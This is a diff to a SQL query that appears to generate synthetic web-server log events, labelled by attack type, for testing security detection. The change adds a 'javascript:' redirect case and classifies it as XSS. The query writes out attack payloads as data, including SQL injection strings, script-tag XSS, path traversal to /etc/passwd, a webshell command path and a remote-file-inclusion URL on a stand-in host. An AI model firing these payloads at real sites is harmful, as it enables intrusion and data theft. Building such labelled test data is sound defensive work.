@@ -69,11 +69,11 @@ base AS (
   CASE p WHEN 0 THEN page || '?id=' || k || '%27%20OR%20%271%27=%271' WHEN 1 THEN page || '?id=' || k || '%20UNION%20SELECT%20name+FROM%20users'
    WHEN 2 THEN page || '?q=%3Cscript%3Ealert(' || k || ')%3C/script%3E' WHEN 3 THEN '/' || k || '/../../etc/passwd'
    WHEN 4 THEN '/' || k || '/%252e%252e%252fetc' WHEN 5 THEN '/up/' || k || '/cmd.php?c=id' WHEN 6 THEN '/wp-admin/' || k || '/config.bak'
-   WHEN 7 THEN page || '?page=http://evil.example.com/' || k || '.txt.php' WHEN 8 THEN page || '?q=or+1=1' WHEN 9 THEN page || '?q=50%zz+off%' ELSE page END AS target,
+   WHEN 7 THEN page || '?page=http://evil.example.com/' || k || '.txt.php' WHEN 8 THEN page || '?q=or+1=1' WHEN 9 THEN page || '?q=50%zz+off%' WHEN 10 THEN page || '?next=javascript:go(' || k || ')' ELSE page END AS target,
   CASE p WHEN 0 THEN page || '?id=' || k || ''' OR ''1''=''1' WHEN 1 THEN page || '?id=' || k || ' UNION SELECT name+FROM users'
    WHEN 2 THEN page || '?q=<script>alert(' || k || ')</script>' WHEN 3 THEN '/' || k || '/../../etc/passwd'
    WHEN 4 THEN '/' || k || '/%2e%2e%2fetc' WHEN 5 THEN '/up/' || k || '/cmd.php?c=id' WHEN 6 THEN '/wp-admin/' || k || '/config.bak'
-   WHEN 7 THEN page || '?page=http://evil.example.com/' || k || '.txt.php' WHEN 8 THEN page || '?q=or+1=1' WHEN 9 THEN page || '?q=50%zz+off%' ELSE page END AS decoded
+   WHEN 7 THEN page || '?page=http://evil.example.com/' || k || '.txt.php' WHEN 8 THEN page || '?q=or+1=1' WHEN 9 THEN page || '?q=50%zz+off%' WHEN 10 THEN page || '?next=javascript:go(' || k || ')' ELSE page END AS decoded
  FROM typed
 ), web AS (
  SELECT event_id, ts, scope, seq, k <> 77 AS matched,
@@ -85,7 +85,7 @@ base AS (
   CASE WHEN k = 77 THEN NULL WHEN k = 78 THEN '' ELSE '-' END AS referer, CASE WHEN k = 77 THEN NULL WHEN k = 78 THEN '' ELSE agent END AS agent,
   CASE WHEN k <> 77 AND contains(target, '?') THEN target[strpos(target, '?') + 1:] END AS uri_query,
   CASE WHEN k <> 77 THEN split_part(target, '?', 1) END AS uri_path,
-  k <> 77 AND p IN (0, 1, 8) AS is_sqli, k <> 77 AND p = 2 AS is_xss, k <> 77 AND p IN (3, 4) AS is_path_traversal,
+  k <> 77 AND p IN (0, 1, 8) AS is_sqli, k <> 77 AND p IN (2, 10) AS is_xss, k <> 77 AND p IN (3, 4) AS is_path_traversal,
   k <> 77 AND p = 7 AS is_rfi, k <> 77 AND p = 5 AS is_webshell, k NOT IN (77, 78) AND k % 11 IN (0, 1, 2) AS is_scanner,
   k <> 77 AND event_type = 'error' AS is_4xx, k <> 77 AND event_type = 'purchase' AS is_5xx,
   k <> 77 AND p = 6 AS is_admin_access, k <> 77 AND p = 6 AS is_backup_file
